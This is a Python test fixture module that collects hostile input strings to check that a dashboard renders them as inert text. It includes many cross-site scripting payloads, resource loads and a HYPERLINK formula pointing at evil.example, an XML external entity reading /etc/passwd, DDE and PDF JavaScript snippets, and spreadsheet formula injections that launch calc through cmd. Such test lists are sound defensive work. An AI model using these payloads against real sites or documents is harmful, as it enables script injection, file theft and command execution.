"""Texts that run where a page or a spreadsheet takes them for more than text."""

from __future__ import annotations

from typing import Final

from tests.dashboard.gate.hostile import KNOWN

_RUN: Final = "window.__pwned=1"
_SIGNS: Final = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\n=", "\r=")
MARKUP: Final = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"</textarea><img src=x onerror={_RUN}>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"[x](javascript:{_RUN})",
    f'![x](x" onerror="{_RUN})',
    '<iframe srcdoc="<script>parent.__pwned=1</script>">',
    f"<iframe src=javascript:parent.{_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<math><mi xlink:href=javascript:{_RUN}>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/>",
    "<img src=http://evil.example/x.png>",
    "<base href=http://evil.example/>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "<form action=http://evil.example/>",
    "background:url(http://evil.example/)",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"`-{_RUN}-`",
    f"';{_RUN};'",
    f'";{_RUN};"',
    f"\\';{_RUN};//",
    f"&lt;script&gt;{_RUN}",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    '<?xml version="1.0"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<w:instrText>DDEAUTO c:\\\\x</w:instrText>",
    "{\\field{\\*\\fldinst{DDEAUTO cmd}}}",
    "/JavaScript (app.alert(1))",
    "%PDF-1.4 1 0 obj<</JS(x)>>",
)
FORMULAS: Final = tuple(
    sign + rest
    for sign in _SIGNS
    for rest in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/","x")')
)
_MOST: Final = 400
TEXTS: Final = tuple(
    dict.fromkeys(
        t for t in (*MARKUP, *FORMULAS, *KNOWN) if t.strip() and "\0" not in t and len(t) <= _MOST
    )
)
assert len(TEXTS) >= 200
